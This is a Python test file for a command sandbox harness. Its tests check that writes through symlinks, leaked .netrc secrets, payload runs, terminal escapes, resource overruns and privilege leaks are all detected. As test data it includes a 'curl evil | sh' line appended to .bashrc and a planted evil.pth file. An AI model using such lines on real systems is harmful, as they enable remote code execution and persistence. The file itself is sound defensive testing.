"""The harness judges honestly: each way a case can go wrong (a write through a link, a secret
shown or written, a payload run, an escape printed, memory or CPU past the bound, a hang, a
traceback, two error lines) fails ``Outcome.judge``, and the ``nobody`` child really is
unprivileged (it cannot read root's files or list a folder of mode 0333 it owns), while it can
still import what the commands import.
"""

from __future__ import annotations

import os
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from conftest import Workspace


def _fails(ws: Workspace, target: Callable[[], object], match: str, expect: str = "either",
           **limits: float) -> None:
    wall = limits.pop("wall_s", 40)
    outcome = ws.run_call(target, wall_s=wall)
    with pytest.raises(AssertionError, match=match):
        outcome.judge(expect, **limits)


def _secret(ws: Workspace) -> str:
    return (ws.victim / ".netrc").read_text().split()[-1]


def test_a_write_through_a_link_fails(ws: Workspace) -> None:
    link = ws.work / "summary.md"
    link.symlink_to(ws.victim / ".bashrc")
    _fails(ws, lambda: link.open("a").write("curl evil | sh\n"), "files outside the run changed")


def test_a_new_file_among_the_users_fails(ws: Workspace) -> None:
    _fails(ws, lambda: (ws.victim / "site-packages" / "evil.pth").write_text("import os\n"),
           "files outside the run changed")


def test_a_secret_shown_or_written_fails(ws: Workspace) -> None:
    secret = _secret(ws)
    _fails(ws, lambda: print(f"class names: {secret}"), "secret was shown")
    _fails(ws, lambda: (ws.work / "predictions.json").write_text(secret), "file holds the secret")


def test_a_payload_or_an_escape_fails(ws: Workspace) -> None:
    _fails(ws, lambda: ws.marker.touch(), "the payload ran")
    _fails(ws, lambda: print("\x1b[2Jcleared"), "terminal escape")


def test_memory_and_time_past_the_bounds_fail(ws: Workspace) -> None:
    def grow() -> None:
        block = bytearray(700 << 20)
        block[::4096] = b"\1" * len(block[::4096])
        time.sleep(0.2)

    def spin() -> None:
        end = time.process_time() + 1.0
        while time.process_time() < end:
            pass

    _fails(ws, grow, "more memory")
    _fails(ws, spin, "CPU time", time_s=0.5)
    _fails(ws, lambda: time.sleep(60), "killed", wall_s=2)


def test_the_outcome_must_be_one_error_line_or_success(ws: Workspace) -> None:
    def two_lines() -> None:
        print("error: one", file=sys.stderr)
        print("error: two", file=sys.stderr)
        raise SystemExit(2)

    _fails(ws, lambda: 1 / 0, "Traceback")
    _fails(ws, two_lines, "2 error lines")
    _fails(ws, lambda: sys.exit(1), "status 1")
    _fails(ws, lambda: None, "expected refused", expect="refused")
    ws.run_call(lambda: None).judge("ok")


def test_the_unprivileged_child_is_unprivileged(ws: Workspace, public_root: Path) -> None:
    """As ``nobody`` the child cannot read a file only root may read, nor list a folder of
    mode 0333 it owns; it can import a module not imported yet. As root it can do all three."""
    if ws.user == "self":
        pytest.skip("not root: the cases run as this unprivileged user, no user is switched")
    private = public_root / f"root-only-{ws.root.name}"
    private.write_text("root's\n")
    os.chmod(private, 0o600)
    closed = ws.work / "closed"
    closed.mkdir()
    os.chmod(closed, 0o333)
    report = ws.work / "report.txt"

    def probe() -> None:
        import tabnanny  # noqa: F401 - a module of the interpreter nothing here imports

        seen = []
        for what, act in (("read", lambda: private.read_text()),
                          ("list", lambda: os.listdir(closed))):
            try:
                act()
                seen.append(what)
            except PermissionError:
                pass
        report.write_text(f"{os.geteuid()} {os.getuid()} {','.join(seen)}")

    try:
        ws.run_call(probe).judge("ok")
    finally:
        private.unlink()
    euid, uid, seen = (report.read_text().split(" ") + [""])[:3]
    if ws.privileged:
        assert seen == "read,list"
    else:
        assert (int(euid), int(uid), seen) == (ws.uid, ws.uid, "")
